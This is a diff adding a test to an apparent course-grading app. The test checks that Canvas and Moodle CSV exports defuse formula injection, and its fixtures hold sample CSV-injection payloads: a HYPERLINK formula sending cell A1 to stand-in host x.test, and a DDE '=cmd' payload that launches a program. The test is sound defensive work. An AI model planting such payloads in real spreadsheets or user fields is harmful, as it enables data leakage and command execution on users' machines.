@@ -235,3 +235,28 @@ def test_student_report_shows_the_instructors_manual_cell_score(app, client, aut
     page = client.get(f"/submissions/{sid}/report?lang=en").get_data(as_text=True)
     assert "Instructor&#39;s score: 2/3. names parameters" in page or "Instructor's score: 2/3. names parameters" in page
     assert "Awaiting the instructor" not in page
+
+
+def test_csv_exports_carry_no_live_formulas(app, client, auth, make_sub):
+    """A display name or email that starts with = + - @ (or a tab / CR) must reach the Canvas and
+    Moodle files as text, not as a formula a spreadsheet runs (OWASP "CSV injection")."""
+    from server.models import User
+
+    make_sub(score=7.5)
+    evil = {"alice": ('=HYPERLINK("http://x.test/?"&A1,"click")', "+1@x.test"),
+            "bob": ("@SUM(1+1)", "-2+3@x.test"), "carol": ("\t=cmd|' /C calc'!A0", "\r=1+1")}
+    with app.app_context():
+        for username, (name, email) in evil.items():
+            user = db.session.scalar(db.select(User).where(User.username == username))
+            if user is not None:
+                user.display_name, user.email = name, email
+        db.session.commit()
+    auth.login(*TEACHER)
+    for path in ("/dashboard/DIST101/export/canvas.csv?lang=en", "/dashboard/DIST101/export/moodle.csv"):
+        rows = list(csv.reader(io.StringIO(client.get(path).get_data(as_text=True).lstrip("\ufeff"))))
+        cells = [c for r in rows[1:] for c in r]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                    and not c.lstrip("+-").replace(".", "", 1).isdigit()], (path, rows)
+        # the text itself is kept, behind the quote a spreadsheet shows as text
+        assert "'" + evil["alice"][0] in cells and "'" + evil["bob"][0] in cells, rows
+        assert "7.5" in cells  # numbers stay numbers
